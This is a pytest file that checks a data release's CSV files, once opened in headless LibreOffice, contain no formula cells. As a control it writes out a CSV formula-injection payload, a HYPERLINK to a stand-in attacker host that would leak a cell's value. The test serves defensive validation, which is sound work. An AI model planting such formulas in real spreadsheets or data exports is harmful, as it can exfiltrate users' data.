"""The released CSV files in a real spreadsheet application: LibreOffice headless opens every
dist/*.csv with its default CSV import (which evaluates formulas) and saves it as .xlsx; no cell
of any of them holds a formula. A control CSV holding ``=HYPERLINK(...)`` in a text cell, opened
the same way, does: it shows the check would see one. Validation refuses such a cell
(``no_formula_text``), so a release can never ship it."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from scripts.commands import release_steps
from scripts.release.build import release
from tests.data.release_support import copy_release_inputs

pytestmark = pytest.mark.libreoffice

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
CONTROL = "formula-control"
FORMULA = re.compile(r"<f[\s>/]")
CELL = re.compile(r"<c[\s>]")


def _sheet(xlsx: Path) -> str:
    with zipfile.ZipFile(xlsx) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Each released CSV (and the control) as LibreOffice opened and re-saved it: name -> .xlsx."""
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc (.ci/run does this)")
    base = tmp_path_factory.mktemp("release-csv")
    dist = release(copy_release_inputs(base / "pkg"), release_steps(), base / "dist", None).dist
    inputs = sorted(dist.glob("*.csv"))
    control = base / f"{CONTROL}.csv"
    control.write_text('state_id,name\nDEU,"' + LEAK.replace('"', '""') + '"\n', encoding="utf-8")
    done = subprocess.run([shutil.which("soffice") or "soffice", f"-env:UserInstallation={(base / 'profile').as_uri()}",
                           "--headless", "--norestore", "--convert-to", "xlsx", "--outdir", str(base / "out"),
                           *map(str, [*inputs, control])], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return {p.stem: base / "out" / f"{p.stem}.xlsx" for p in [*inputs, control]}


def test_libreoffice_runs_a_formula_in_a_csv_text_cell(opened: dict[str, Path]) -> None:
    sheet = _sheet(opened.pop(CONTROL))
    assert [m.group(1) for m in re.finditer(r"<f[^>]*>([^<]*)</f>", sheet)] == [
        "HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A2,&quot;x&quot;)"]


def test_every_released_csv_opens_with_no_formula_cell(opened: dict[str, Path]) -> None:
    released = {name: path for name, path in opened.items() if name != CONTROL}
    assert len(released) >= 10  # one CSV per table
    for name, path in released.items():
        sheet = _sheet(path)
        assert CELL.search(sheet), f"{name}: LibreOffice read no cell"
        assert not FORMULA.search(sheet), f"{name}: a cell holds a formula"
